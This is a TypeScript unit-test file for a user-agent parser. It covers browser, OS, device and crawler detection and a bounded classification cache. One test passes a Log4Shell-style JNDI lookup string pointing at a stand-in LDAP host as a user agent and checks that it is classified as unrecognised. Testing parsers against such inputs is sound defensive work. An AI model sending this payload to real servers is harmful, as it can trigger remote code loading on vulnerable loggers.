import test from 'ava';
import { classifyUserAgent, parseUserAgent, UserAgentClassifier } from '../../src/logs/index.ts';

const BROWSERS: Array<[string, Partial<ReturnType<typeof parseUserAgent>>]> = [
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
    { browser: 'Chrome', browserVersion: '131', os: 'Windows', osVersion: '10', device: 'desktop', crawler: false }],
  ['Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:115.0) Gecko/20100101 Firefox/115.0', { browser: 'Firefox', browserVersion: '115', os: 'Windows', osVersion: '7' }],
  ['Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15',
    { browser: 'Safari', browserVersion: '17', os: 'macOS', osVersion: '10.15', device: 'desktop' }],
  ['Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1',
    { browser: 'Mobile Safari', os: 'iOS', osVersion: '17.5', device: 'mobile' }],
  ['Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Mobile/15E148 Safari/604.1',
    { browser: 'Mobile Safari', os: 'iOS', osVersion: '16.6', device: 'tablet' }],
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.2903.70',
    { browser: 'Edge', browserVersion: '131', os: 'Windows' }],
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36 OPR/115.0.0.0', { browser: 'Opera', browserVersion: '115' }],
  ['Opera/9.80 (Windows NT 6.1) Presto/2.12.388 Version/12.18', { browser: 'Opera', browserVersion: '12' }],
  ['Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko', { browser: 'Internet Explorer', browserVersion: '11', os: 'Windows' }],
  ['Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; Trident/6.0)', { browser: 'Internet Explorer', browserVersion: '10', osVersion: '8', crawler: false }],
  ['Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36',
    { browser: 'Samsung Internet', browserVersion: '25', os: 'Android', osVersion: '14', device: 'mobile' }],
  ['Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36', { browser: 'Chrome', os: 'Android', osVersion: '10', device: 'mobile' }],
  ['Mozilla/5.0 (Linux; Android 14; SM-X710) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36', { os: 'Android', device: 'tablet' }],
  ['Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36', { browser: 'Chrome', os: 'ChromeOS', device: 'desktop' }],
  ['Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0', { browser: 'Firefox', os: 'Linux' }],
  ['Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/126.0.6478.54 Mobile/15E148 Safari/604.1', { browser: 'Chrome', os: 'iOS' }],
  ['Mozilla/5.0 (Linux; Android 13; SM-A536B Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/126.0.6478.71 Mobile Safari/537.36', { browser: 'Android WebView' }],
  ['Mozilla/5.0 (Windows Phone 10.0; Android 6.0.1; Microsoft; Lumia 950) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/52.0.2743.116 Mobile Safari/537.36 Edge/15.15063',
    { browser: 'Edge', os: 'Windows Phone', device: 'mobile' }],
];

for (const [ua, want] of BROWSERS) {
  test(`browser ${want.browser ?? ''} on ${want.os ?? ''}: ${ua}`, (t) => {
    t.like(parseUserAgent(ua), want);
  });
}

const CRAWLERS: Array<[string, string]> = [
  ['Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 'Googlebot'],
  ['Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.69 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 'Googlebot'],
  ['Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)', 'bingbot'],
  ['Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)', 'YandexBot'],
  ['Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)', 'AhrefsBot'],
  ['Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)', 'GPTBot'],
  ['facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)', 'Facebook'],
  ['curl/8.5.0', 'curl'],
  ['Wget/1.21.3', 'Wget'],
  ['python-requests/2.32.3', 'python-requests'],
  ['Go-http-client/1.1', 'Go-http-client'],
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.6099.109 Safari/537.36', 'HeadlessChrome'],
  ['Mozilla/5.0 (compatible; ExampleSearchBot/0.3; +https://search.example/bot)', 'ExampleSearchBot'],
  ['SomeCrawler/1.0', 'SomeCrawler'],
];

for (const [ua, name] of CRAWLERS) {
  test(`crawler ${name}: ${ua}`, (t) => {
    t.like(parseUserAgent(ua), { crawler: true, crawlerName: name, browser: 'Crawler', os: 'Crawler', device: 'bot' });
  });
}

test('empty, - and unrecognised agents', (t) => {
  for (const ua of ['', '-', '  ']) t.like(parseUserAgent(ua), { browser: 'Unknown', os: 'Unknown', crawler: false, device: 'unknown' });
  t.like(parseUserAgent('${jndi:ldap://198.51.100.7:1389/a}'), { browser: 'Other', os: 'Unknown', crawler: false });
});

test('classification is memoised per distinct agent and the memo is bounded', (t) => {
  const c = new UserAgentClassifier({ maxEntries: 16 });
  const first = c.classify('curl/8.5.0');
  t.is(c.classify('curl/8.5.0'), first, 'the same object comes back');
  for (let i = 0; i < 1000; i++) c.classify(`agent-${i}/1.0`);
  t.true(c.size <= 16);
  t.is(classifyUserAgent('curl/8.5.0'), classifyUserAgent('curl/8.5.0'));
  t.throws(() => new UserAgentClassifier({ maxEntries: 0 }), { code: 'ERR_INVALID_ARGUMENT' });
});
